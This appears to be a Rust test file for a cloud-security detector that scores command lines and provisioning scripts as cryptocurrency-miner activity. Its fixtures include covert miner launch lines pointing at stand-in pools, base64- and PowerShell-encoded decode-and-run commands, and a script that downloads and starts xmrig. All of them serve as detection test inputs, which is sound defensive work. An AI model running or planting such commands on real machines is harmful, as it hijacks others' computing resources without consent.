//! What command lines come to, through the detector.

use std::sync::Arc;

use base64::{Engine, engine::general_purpose::STANDARD};

use super::{wallet::tests as wallets, *};
use crate::{
    event::{Action, Caller, Compute, ComputeKind, Resource},
    id::{AccountRef, Provider},
    indicator::{self, IndicatorSet},
    weights::Weights,
};

/// An address of Ethereum's that is nobody's.
const ETHER: &str = "0x00112233445566778899aabbccddeeff00112233";

fn watch() -> Watch {
    let mut indicators = IndicatorSet::empty();
    indicators
        .layer(indicator::import("pool.example\n203.0.113.9:3333\n").expect("a list").indicators);
    Watch { indicators: Arc::new(indicators), ..Watch::default() }
}

fn start<'a>(executable: &'a str, command_line: &'a str) -> ProcessStart<'a> {
    let account = AccountRef::new(Provider::Aws, "111122223333");
    let resource = Resource { instance: Some("host-1"), ..Resource::default() };
    ProcessStart {
        executable: executable.into(),
        command_line: command_line.into(),
        ..ProcessStart::new(account, resource, Time::from_seconds(1_772_359_200))
    }
}

fn call<'a>(texts: &[&'a str], outcome: CallOutcome) -> ApiCall<'a> {
    ApiCall {
        account: AccountRef::new(Provider::Aws, "111122223333"),
        id: "1".into(),
        time: Time::from_seconds(1_772_359_200),
        service: "ec2.amazonaws.com".into(),
        operation: "RunInstances".into(),
        action: Action::CreateCompute,
        outcome,
        caller: Caller::default(),
        region: "".into(),
        resources: Vec::new(),
        compute: None,
        texts: texts.iter().map(|text| (*text).into()).collect(),
    }
}

/// The probability of what these events come to.
fn probability(events: &[Event<'_>]) -> f64 {
    let mut state = Starts::default();
    for event in events {
        MinerProcess::observe(&mut state, event, Place::here(1), &watch());
    }
    let account = AccountRef::new(Provider::Aws, "111122223333").to_owned();
    let (weights, watch) = (Weights::embedded(), watch());
    let context = Context {
        bill: &crate::bill::Ledger::default(),
        account: &account,
        indicators: &watch.indicators,
        weights: &weights,
        lookups: &Default::default(),
        names: &Default::default(),
        resources: &Default::default(),
        coverage: &Default::default(),
        footprints: &Default::default(),
        blocks: &Default::default(),
        fleets: &Default::default(),
    };
    let findings = MinerProcess::findings(&state, &context);
    assert!(findings.len() <= 1, "{findings:?}");
    findings.first().map_or(0.0, |finding| crate::assess::assess(&[finding], &weights).probability)
}

fn of(executable: &str, command_line: &str) -> f64 {
    probability(&[Event::Process(start(executable, command_line))])
}

fn of_script(script: &str) -> f64 {
    probability(&[Event::Call(call(&[script], CallOutcome::Succeeded))])
}

#[test]
fn a_miner_with_its_pool_is_nearly_certain_whatever_it_is_called() {
    let (monero, bitcoin) = (wallets::monero(1), wallets::bitcoin(2));
    for line in [
        format!("./kworker -o 198.51.100.7:443 -u {monero} -p x -k"),
        format!("/usr/sbin/httpd --url=ssl://a.example:443 --user={monero}.rig1"),
        format!("updater 198.51.100.7:8080 {monero}"),
        format!("./a stratum+tcp://{bitcoin}.rig@a.example:3333"),
        format!("./a -o http://a.example:9332 -u {bitcoin} -p c=BTC"),
        format!("bash -c \"nohup ./a -o a.example:443 -u {monero} >/dev/null 2>&1 &\""),
        format!("docker run -d web -o a.example:443 -u {monero}"),
        format!("sudo nice -n 19 ./a --pool a.example:443 --wallet {monero}"),
        "./upd -o stratum2+tcp://a.example:3333 -u alice -p x".to_string(),
        "./upd -o a.example:3333 -u alice.rig -p x -k".to_string(),
        "./upd --algo=rx/0 -o a.example:443".to_string(),
        "./upd --donate-level 1 --url a.example:443".to_string(),
        "./upd -o pool.example:443 -u alice".to_string(),
        format!("./upd -P stratum1+ssl://{ETHER}.r@a.example:4444"),
        format!("./upd -o a.example:4444 -u {ETHER}.rig -p x"),
        format!("./upd tcp://{bitcoin}@a.example:3333"),
        format!("docker run -d -e POOL=a.example:443 -e WALLET={monero} alice/worker"),
        "lolMiner --algo ETCHASH --pool a.example:1010 --user alice".to_string(),
    ] {
        assert!(of("/usr/bin/upd", &line) >= 0.97, "{line}: {}", of("/usr/bin/upd", &line));
    }
}

#[test]
fn a_name_alone_is_strong_and_less() {
    for (executable, line) in [
        ("/opt/xmrig", "xmrig"),
        ("/opt/xmrig", "[kworker/0:0]"),
        ("C:\\x\\XMRig.exe", "\"C:\\x\\XMRig.exe\" --config=c.json"),
        ("/usr/bin/nbminer", "nbminer -c x.conf"),
        ("/bin/sh", "sh -c ./t-rex -c x.json"),
        ("/usr/bin/docker", "docker run -d registry.example/alice/xmrig:latest"),
        ("/a/upd", "./upd --randomx-1gb-pages --cpu-no-yield"),
    ] {
        let p = of(executable, line);
        assert!((0.78..0.94).contains(&p), "{line}: {p}");
    }
    let by_image = ProcessStart { image: Some("alice/xmrig:6".into()), ..start("/bin/run", "run") };
    assert!((0.8..0.9).contains(&probability(&[Event::Process(by_image)])));
}

#[test]
fn who_speaks_of_miners_is_none() {
    let wallet = wallets::monero(9);
    for line in [
        "kubectl apply -o pool.yaml",
        "kubectl get pods -o wide",
        "vi stratum.conf",
        "grep xmrig",
        "grep -rE stratum+tcp://pool.example:3333|xmrig|minerd /var/log",
        "sh -c ps aux | grep minerd",
        "bash -c 'ps aux | grep -E \"xmrig|minerd\" | grep -v grep'",
        "yara xmrig.yar /proc",
        "pkill xmrig",
        "pkill -f xmrig -o pool.example:443",
        "apt-get install cpulimit",
        "apt-get install xmrig",
        "docker pull registry.example/web:1",
        "docker ps --filter name=xmrig",
        "docker exec web grep xmrig /etc/passwd",
        "/usr/local/bin/xmrig-exporter --url http://10.0.0.4:8080 --listen 0.0.0.0:9100",
        "/usr/local/bin/pool-monitor --pool pool.example:3333 --interval 60",
        "python3 /opt/xmrig_exporter.py --port 9100",
        "dig +short pool.example",
        "nc -vz pool.example 3333",
        "curl -s https://pool.example/api/stats",
        "/opt/scanner/scan --names xmrig,minerd,cgminer,t-rex,lolMiner",
        "/opt/scanner/scan --patterns stratum+tcp://,donate-level,--algo",
        "chronyd -s stratum 3",
        "systemctl status xmrig",
        "/opt/xmrig/update.sh",
        "bin/xmrig-config-generator",
        "rsync -e ssh a.example:443 b",
        "mosquitto_pub -h a.example -p 1883 -u alice -P x",
        "ssh -o ProxyCommand=none -p 22 alice@a.example",
        "mysqldump --host db.example:3306 -u alice --password=x",
        "dockerd -H tcp://0.0.0.0:2376",
        "worker --broker tcp://alice:secret@queue.example:1883",
        "",
    ] {
        assert_eq!(of("", line), 0.0, "{line}");
    }
    for line in [
        "git clone https://code.example/xmrig/xmrig.git".to_string(),
        "wget https://code.example/xmrig-6.21.0-linux-x64.tar.gz".to_string(),
        "docker pull alice/xmrig:latest".to_string(),
        format!("./shop --pay-to {wallet}"),
        format!("pay.py --daemon node.example:18089 --address {wallet}"),
        format!("docker run -e XMR_WALLET={wallet} -e NODE=a.example:18089 b.example:5000/shop:1"),
        format!("/usr/bin/indexer --nats tcp://nats:4222 --contract {ETHER}"),
        format!("indexer tcp://nats:4222 {ETHER}"),
        format!("bot --url rpc.example:8545 --wallet {ETHER}"),
        format!("validator --beacon tcp://10.0.0.4:4000 --suggested-fee-recipient {ETHER}"),
        format!("watch --electrum tcp://a.example:50001 --address {}", wallets::bitcoin(4)),
        "sysctl -w vm.nr_hugepages=1280".to_string(),
        "wrmsr -a 0x1a4 0xf".to_string(),
        "modprobe msr allow_writes=on".to_string(),
        "systemctl enable xmrig.service".to_string(),
        "xmrig --version".to_string(),
        "./bot --host pool.example".to_string(),
        "rigel --port 80".to_string(),
    ] {
        let p = of("/tmp/a (deleted)", &line);
        assert!(p > 0.0 && p < 0.10, "{line}: {p}");
    }
}

#[test]
fn hints_together_open_no_case_and_strengthen_one() {
    let lines = [
        "sysctl -w vm.nr_hugepages=1280",
        "modprobe msr",
        "wget https://code.example/xmrig.tar.gz",
        "systemctl start xmrig",
        "sh -c pkill xmrig; pkill minerd; pkill kinsing; pkill cgminer",
    ];
    let mut events: Vec<Event<'_>> =
        lines.iter().map(|line| Event::Process(start("/tmp/a", line))).collect();
    let hints = probability(&events);
    assert!(hints > 0.01 && hints < 0.10, "{hints}");
    events.push(Event::Process(start("/tmp/xmrig", "./xmrig")));
    let together = probability(&events);
    assert!(together > of("/tmp/xmrig", "./xmrig") && together < 0.99, "{together}");
}

#[test]
fn a_validators_start_up_script_is_none() {
    let script = format!(
        "#!/bin/sh\ndockerd -H tcp://0.0.0.0:2376 &\n\
         lighthouse vc --suggested-fee-recipient {ETHER} --beacon-nodes http://10.0.0.4:5052\n"
    );
    let p = of_script(&script);
    assert!(p > 0.0 && p < 0.10, "{p}");
}

#[test]
fn what_hides_in_base64_is_found() {
    let wallet = wallets::monero(3);
    let inner = format!("cd /tmp && nohup ./a -o a.example:443 -u {wallet} -p x &");
    let once = STANDARD.encode(&inner);
    let twice = STANDARD.encode(format!("echo {once} | base64 -d | sh"));
    let wide: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for line in [
        format!("bash -c echo {once} | base64 -d | bash"),
        format!("bash -c {{echo,{twice}}}|{{base64,-d}}|bash"),
        format!("powershell -NoP -enc {}", STANDARD.encode(wide)),
    ] {
        assert!(of("/bin/bash", &line) >= 0.97, "{line}");
    }
    let mut deep = inner;
    for _ in 0..12 {
        deep = STANDARD.encode(format!("echo {deep}"));
    }
    assert_eq!(of("", &format!("echo {deep}")), 0.0);
}

#[test]
fn a_sensors_rule_counts_unless_the_program_only_speaks() {
    let rule = |line| {
        let rule = Some("Detect crypto miners using the Stratum protocol".into());
        probability(&[Event::Process(ProcessStart { rule, ..start("", line) })])
    };
    assert!((0.9..0.97).contains(&rule("./upd")));
    assert!((0.9..0.97).contains(&rule("")));
    assert_eq!(rule("grep stratum+tcp:// a"), 0.0);
}

#[test]
fn scripts_of_calls_are_read() {
    let wallet = wallets::monero(5);
    let script = format!(
        "#!/bin/bash\n# it's a test\napt-get update\nwget https://code.example/xmrig.tar.gz\n\
         ./xmrig -o a.example:443 -u {wallet}\n"
    );
    assert!(of_script(&script) >= 0.97);
    let config = format!(
        "cat > c.json <<EOF\n{{\"pools\":[{{\"url\":\"a.example:3333\",\n\"user\": \"{wallet}\"}}]}}\nEOF\n./upd\n"
    );
    assert!(of_script(&config) >= 0.97);
    assert!(of_script(&format!("[\"/upd\",\"-o\",\"a.example:443\",\"-u\",\"{wallet}\"]")) >= 0.97);
    for image in ["registry.example/alice/xmrig:latest", "alice/docker-xmrig", "xmrig/worker:1"] {
        assert!((0.8..0.95).contains(&of_script(image)), "{image}");
    }
    for other in ["alice/xmrig-exporter:1", "/opt/xmrig/README", "registry.example/web:1"] {
        assert_eq!(of_script(other), 0.0, "{other}");
    }
    assert_eq!(of_script("#!/bin/sh\napt-get -y install nginx\nsystemctl enable nginx\n"), 0.0);
    let failed = probability(&[Event::Call(call(&[&script], CallOutcome::Denied))]);
    assert!(failed > 0.1 && failed < 0.3, "{failed}");
    let image = Some("alice/xmrig".into());
    let compute = Some(Compute { image, ..Compute::new(ComputeKind::Container) });
    let by_image = ApiCall { compute, ..call(&[], CallOutcome::Succeeded) };
    assert!((0.8..0.95).contains(&probability(&[Event::Call(by_image)])));
}

#[test]
fn states_join_in_any_order() {
    let lines: Vec<String> = (0..200).map(|at| format!("./xmrig -c {at}.json")).collect();
    let state = |lines: &[String]| {
        let mut state = Starts::default();
        for (at, line) in lines.iter().enumerate() {
            let event = Event::Process(start("/opt/xmrig", line));
            MinerProcess::observe(&mut state, &event, Place::here(at as u64), &watch());
        }
        state
    };
    let (one, other) = lines.split_at(90);
    let (one, other) = (state(one), state(other));
    let joined = one.clone().merge(other.clone());
    assert_eq!(joined, other.merge(one.clone()));
    assert_eq!(joined.clone().merge(joined.clone()), joined);
    assert_eq!(joined.clone().merge(one), joined);
}

#[test]
fn a_flood_of_hints_does_not_hide_a_miner() {
    let wallet = wallets::monero(7);
    let line = format!("./a -o a.example:443 -u {wallet}");
    let many: Vec<String> =
        (0..500).map(|at| format!("wget https://code.example/{at}/xmrig")).collect();
    let mut events = vec![Event::Process(start("/a", &line))];
    events.extend(many.iter().map(|line| Event::Process(start("/b", line))));
    assert!(probability(&events) >= 0.97);
}

#[test]
fn hostile_lines_end() {
    for line in
        ["\"'`|&;$(".repeat(20_000), "-o ".repeat(100_000), "é".repeat(300_000), "[".repeat(9999)]
    {
        let _p = of(&line, &line);
        let _p = of_script(&line);
    }
}
